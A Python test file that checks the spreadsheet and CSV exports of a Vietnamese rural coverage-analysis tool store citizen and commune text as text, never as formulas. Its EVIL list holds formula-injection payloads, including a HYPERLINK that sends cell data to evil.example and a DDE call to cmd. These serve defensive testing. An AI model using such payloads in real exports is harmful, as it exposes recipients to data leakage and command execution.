"""Text from a survey, a citizen or a commune name never becomes a formula in an export (issue 14 item 6):
feedback and rejected survey rows go in through the real loaders, and every XLSX and CSV writer's file is read
back with openpyxl and the csv module."""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from shapely.geometry import box
from sqlalchemy import Connection

from analysis.gaps import write_gaps
from analysis.outputs.gap_report import write_report_xlsx
from analysis.outputs.plans import write_plan
from etl.feedback import Viewer
from etl.feedback_export import export_feedback
from etl.feedback_import import import_feedback
from sql.safe_cells import csv_cell, text_only_workbook
from tests.etl.test_feedback_import import HEADER
from tests.feedback_seed import seed_world

# What an attacker types: a live link, a DDE call, arithmetic, an @-function, a tab and a CR in front.
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\t=1+1", "\r=1+1"]


def _no_formulas(path: Path) -> list[str]:
    """Every text value of the workbook, after asserting that no cell is a formula."""
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_the_helper_quotes_text_and_leaves_numbers_alone() -> None:
    assert [csv_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert [csv_cell(v) for v in (-5, -5.5, 0, "-5", "+84.5", "-1.5e3", "Mường Nhé", "", None)] == \
        [-5, -5.5, 0, "-5", "+84.5", "-1.5e3", "Mường Nhé", "", None]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1", -3])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own
    text_only_workbook(book)
    assert (sheet["A1"].data_type, sheet["A1"].value, sheet["B1"].value) == ("s", "=1+1", -3)


@pytest.mark.db
def test_citizen_feedback_exports_carry_the_text_never_a_formula(db_conn: Connection, tmp_path: Path) -> None:
    seed_world(db_conn)
    source = tmp_path / "phan_anh.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        for n, evil in enumerate(EVIL, start=1):
            writer.writerow([str(n), f"0{n}/09/2026", "Zalo", "91001", "", "", "", "Khác", evil, "", "", "", ""])
        writer.writerow(["9", "=NOW()", "Zalo", "91001", "", "", "", "Khác", "ngày sai", "", "", "", ""])
    result = import_feedback(db_conn, source, report_dir=tmp_path)
    assert result.loaded == len(EVIL) and result.rejected == 1
    admin = Viewer("admin1", "admin")
    assert export_feedback(db_conn, admin, tmp_path / "phan_anh.xlsx") == len(EVIL)
    stored = {e.strip() for e in EVIL}  # the loader trims the tab and CR; the rest is kept as typed
    assert stored <= set(_no_formulas(tmp_path / "phan_anh.xlsx"))  # as text, never a formula
    export_feedback(db_conn, admin, tmp_path / "phan_anh_out.csv")
    assert {"'" + e for e in stored} <= set(_csv_cells(tmp_path / "phan_anh_out.csv"))
    # The reject report holds the citizen's cell as written: quoted too.
    assert result.report is not None and "'=NOW()" in _csv_cells(result.report)


def _gaps(name: str) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({
        "commune_code": ["00001", "00002"], "commune_name": [name, "Mường Nhé"], "province_code": ["11", "11"],
        "province_name": ["@Điện Biên", "Điện Biên"], "class": ["unserved", "served"],
        "pop_total": [1000, 2000], "pop_covered": [0, 1900], "pop_covered_share": [0.0, 0.95],
        "villages_total": [3, 4], "villages_reached": [0, 4], "ntm_8_3": [False, True],
        "priority_score": [-1.5, 2.0], "reason": ["-chưa có loa", "đủ"],
    }, geometry=[box(103, 22, 103.1, 22.1), box(103.1, 22, 103.2, 22.1)], crs=4326)


def _no_formulas_texts(evil: str, tmp_path: Path) -> list[str]:
    """What a plain openpyxl round trip of ``evil`` as text gives back in this environment."""
    probe = tmp_path / "probe.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"].value = evil
    sheet["A1"].data_type = "s"
    book.save(probe)
    value = load_workbook(probe).active["A1"].value  # type: ignore[index]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("evil", EVIL)
def test_gap_report_and_plan_writers_keep_text_as_text_and_numbers_as_numbers(tmp_path: Path, evil: str) -> None:
    gaps = _gaps(evil)
    # openpyxl's own XML writer lets a CR in text be read back as a line feed; with lxml installed it is kept.
    read_back = evil if evil in _no_formulas_texts(evil, tmp_path) else evil.replace("\r", "\n")
    write_gaps(gaps, tmp_path / "gaps.xlsx", fmt="xlsx", metadata=[("exported_by", "=cmd")])
    texts = _no_formulas(tmp_path / "gaps.xlsx")
    assert read_back in texts and "=cmd" in texts
    sheet = load_workbook(tmp_path / "gaps.xlsx")["Khoảng trống phủ sóng"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("Điểm ưu tiên") + 1).value == -1.5  # a negative number stays a number
    write_gaps(gaps, tmp_path / "gaps.csv", fmt="csv", metadata=[])
    cells = _csv_cells(tmp_path / "gaps.csv")
    assert "'" + evil in cells and "-1.5" in cells and "'-chưa có loa" in cells
    write_report_xlsx(tmp_path / "report.xlsx", gaps, pd.DataFrame(), [("scenario", evil)])
    assert _no_formulas(tmp_path / "report.xlsx").count(read_back) >= 2
    actions = pd.DataFrame({"action": ["repair_cluster"], "facility_id": [1], "lon": [103.05], "lat": [22.05],
                            "commune_code": ["00001"], "commune_name": [evil], "cost_vnd": [-8e6],
                            "added_population": [120.0], "added_villages": [1]})
    write_plan(tmp_path / "plan.xlsx", actions, fmt="xlsx", parameters=[("Phương án", evil)])
    assert read_back in _no_formulas(tmp_path / "plan.xlsx")
    assert load_workbook(tmp_path / "plan.xlsx")["Hạng mục"]["G2"].value == -8_000_000
    write_plan(tmp_path / "plan.csv", actions, fmt="csv", parameters=[])
    assert "'" + evil in _csv_cells(tmp_path / "plan.csv") and "-8000000" in _csv_cells(tmp_path / "plan.csv")
